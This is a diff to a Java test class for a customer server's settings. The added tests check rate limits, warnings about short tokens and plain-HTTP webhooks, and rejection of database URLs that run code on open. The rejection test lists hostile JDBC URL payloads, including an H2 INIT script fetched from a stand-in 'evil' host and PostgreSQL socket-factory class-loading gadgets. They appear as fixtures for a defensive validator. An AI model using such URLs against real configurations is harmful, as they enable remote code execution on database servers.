@@ -27,6 +27,8 @@ class ServerSettingsTest {
     assertThat(settings.databaseUrl()).isEqualTo("jdbc:h2:file:./data/customers");
     assertThat(settings.databaseUser()).isEqualTo("sa");
     assertThat(settings.requestsPerSecond()).isEqualTo(4);
+    assertThat(settings.refusalsPerSecond()).isEqualTo(5);
+    assertThat(settings.warnings()).isEmpty();
     assertThat(settings.generatedToken()).hasValueSatisfying(token -> {
       assertThat(token).hasSizeGreaterThanOrEqualTo(40).matches("[A-Za-z0-9_-]+");
       assertThat(settings.tokens()).containsOnlyKeys(token);
@@ -49,6 +51,7 @@ class ServerSettingsTest {
         "CUSTOMERS_DB_USER", "app",
         "CUSTOMERS_DB_PASSWORD", "pw",
         "CUSTOMERS_RATE_LIMIT", "0",
+        "CUSTOMERS_REFUSAL_LIMIT", "2",
         "CUSTOMERS_IDEMPOTENCY_TTL", "P7D",
         "CUSTOMERS_TOKENS", "s3cret=users:write users:read, ro=users:read"));
 
@@ -58,12 +61,43 @@ class ServerSettingsTest {
     assertThat(settings.databaseUser()).isEqualTo("app");
     assertThat(settings.databasePassword()).isEqualTo("pw");
     assertThat(settings.requestsPerSecond()).isZero();
+    assertThat(settings.refusalsPerSecond()).isEqualTo(2);
     assertThat(settings.idempotencyTtl()).isEqualTo(Duration.ofDays(7));
     assertThat(settings.tokens()).isEqualTo(Map.of(
         "s3cret", Set.of("users:write", "users:read"),
         "ro", Set.of("users:read")));
     assertThat(settings.generatedToken()).isEmpty();
     assertThat(settings.toString()).doesNotContain("s3cret", "pw");
+  }
+
+  /** A URL setting that runs code of whoever wrote the URL at each open is refused, naming the setting only. */
+  @ParameterizedTest
+  @ValueSource(strings = {
+      "jdbc:h2:file:./data/customers;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+      "jdbc:h2:file:./data/customers;DB_CLOSE_DELAY=-1;init=CREATE ALIAS X AS 'int x() { return 1; }'",
+      "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=com.example.Listener",
+      "jdbc:postgresql://db/customers?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
+      "jdbc:postgresql://db/customers?user=a&sslfactory=com.example.Factory",
+  })
+  void a_database_url_that_runs_code_at_open_is_refused(String url) {
+    assertThatThrownBy(() -> ServerSettings.from(Map.of("CUSTOMERS_DB_URL", url)))
+        .isInstanceOf(InvalidSettingException.class)
+        .hasMessageStartingWith("CUSTOMERS_DB_URL must not set ")
+        .hasMessageContaining("each time the database opens")
+        .hasMessageNotContaining("evil").hasMessageNotContaining("db/customers");
+  }
+
+  @Test
+  void short_tokens_and_webhooks_in_clear_text_over_the_network_are_warned_about_not_refused() {
+    ServerSettings settings = ServerSettings.from(Map.of(
+        "CUSTOMERS_TOKENS", "s3cret=users:write, " + "x".repeat(32) + "=users:read, ro=users:read",
+        "CUSTOMERS_WEBHOOK_URLS", "http://hooks.example.com/in, http://127.0.0.1:9000/in, https://secure.example.com/",
+        "CUSTOMERS_WEBHOOK_SECRET", "whsec_" + java.util.Base64.getEncoder().encodeToString(new byte[32])));
+
+    assertThat(settings.warnings()).hasSize(2)
+        .anySatisfy(warning -> assertThat(warning).startsWith("2 of the tokens in CUSTOMERS_TOKENS are shorter than "
+            + "32 characters").doesNotContain("s3cret"))
+        .anySatisfy(warning -> assertThat(warning).contains("hooks.example.com (http://)"));
   }
 
   @ParameterizedTest
